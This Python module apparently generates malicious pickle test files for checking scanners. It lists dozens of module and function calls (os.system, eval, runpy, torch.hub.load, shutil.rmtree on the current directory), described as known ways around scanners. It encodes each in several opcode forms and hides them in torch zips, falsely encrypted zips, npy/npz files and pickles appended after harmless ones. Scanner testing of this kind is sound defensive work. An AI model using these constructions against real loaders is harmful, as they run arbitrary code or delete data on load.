"""Files that run something where they are unpickled, in the shapes that collections of such files have."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator

import numpy as np

MARKER = "MARKER"
_TOUCH, _OPEN = f"touch {MARKER}", f"open('{MARKER}', 'w')"
# Module, name, argument: what scanners of pickles list, and what has been found to go around them.
CALLS: tuple[tuple[str, str, str], ...] = (
    ("os", "system", _TOUCH),
    ("posix", "system", _TOUCH),
    ("subprocess", "getoutput", _TOUCH),
    ("commands", "getoutput", _TOUCH),
    ("builtins", "eval", _OPEN),
    ("__builtin__", "exec", _OPEN),
    ("builtins", "__import__", "antigravity"),
    ("importlib", "import_module", "antigravity"),
    ("runpy", "run_path", MARKER),
    ("timeit", "timeit", _OPEN),
    ("cProfile", "run", _OPEN),
    ("profile", "run", _OPEN),
    ("trace", "run", _OPEN),
    ("pdb", "run", _OPEN),
    ("bdb", "run", _OPEN),
    ("doctest", "debug_script", _OPEN),
    ("code", "interact", _OPEN),
    ("idlelib.pyshell", "main", ""),
    ("lib2to3.pgen2.pgen", "ParserGenerator", MARKER),
    ("pip", "main", "--version"),
    ("ensurepip", "_run_pip", "--version"),
    ("pydoc", "pipepager", _TOUCH),
    ("webbrowser", "open", "http://127.0.0.1:9"),
    ("urllib.request", "urlopen", "http://127.0.0.1:9"),
    ("http.client", "HTTPSConnection", "127.0.0.1"),
    ("socket", "create_connection", "127.0.0.1"),
    ("asyncio.unix_events", "_UnixSubprocessTransport", _TOUCH),
    ("distutils.file_util", "write_file", MARKER),
    ("shutil", "rmtree", "."),
    ("pathlib", "Path", MARKER),
    ("ctypes", "CDLL", "libc.so.6"),
    ("numpy", "load", MARKER),
    ("numpy.testing._private.utils", "runstring", _OPEN),
    ("numpy.f2py.crackfortran", "myeval", _OPEN),
    ("torch", "load", MARKER),
    ("torch._inductor.codecache", "compile_file", MARKER),
    ("torch.hub", "load", "."),
    ("paddle", "load", MARKER),
    ("paddle.hub", "load", "."),
    ("paddle_resume.builders.own_modules", "import_attribute", "os:system"),
    ("pickle", "loads", "cos\nsystem\n."),
    ("operator", "attrgetter", "system"),
    ("functools", "partial", "x"),
    ("types", "FunctionType", "x"),
    ("sys", "modules", "x"),
    ("_io", "FileIO", MARKER),
)


def malicious() -> Iterator[tuple[str, bytes]]:
    """Each file by its name."""
    for number, (module, name, argument) in enumerate(CALLS):
        shapes = {
            "reduce": _name(module, name) + b"(" + _text(argument) + b"tR.",
            "stack": b"\x80\x04" + _short(module) + _short(name) + b"\x93(" + _text(argument) + b"tR.",
            "inst": b"(" + _text(argument) + b"i" + f"{module}\n{name}\n".encode() + b".",
            "obj": b"(" + _name(module, name) + _text(argument) + b"o.",
            "newobj": b"\x80\x02" + _name(module, name) + _text(argument) + b"\x85\x81.",
            "value": b"\x80\x02}" + _text("w") + _name(module, name) + b"(" + _text(argument) + b"tRs.",
        }
        for shape, content in shapes.items():
            yield f"{module}.{name}-{shape}", content
        # One container for each, all of them over all.
        containers = (_torch_zip, _odd_zip, _npz, _npy, _after_a_good_one)
        yield f"{module}.{name}-contained", containers[number % len(containers)](shapes["reduce"])


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _short(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _name(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _torch_zip(content: bytes) -> bytes:
    with io.BytesIO() as file:
        with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as archive:
            archive.writestr("archive/data.pkl", content)
            archive.writestr("archive/version", b"3\n")
        return file.getvalue()


def _odd_zip(content: bytes) -> bytes:
    """One whose directory says that it is encrypted, which some readers believe and others do not look at."""
    whole = bytearray(_torch_zip(content))
    whole[6] |= 1
    return bytes(whole)


def _npz(content: bytes) -> bytes:
    with io.BytesIO() as file:
        with zipfile.ZipFile(file, "w") as archive:
            archive.writestr("w.npy", _npy(content))
        return file.getvalue()


def _npy(content: bytes) -> bytes:
    with io.BytesIO() as file:
        header = {"descr": "|O", "fortran_order": False, "shape": (1,)}
        np.lib.format.write_array_header_1_0(file, header)
        return file.getvalue() + content


def _after_a_good_one(content: bytes) -> bytes:
    """A good pickle, and behind its end another one, as files of old torch are."""
    return b"\x80\x02}q\x00." + content
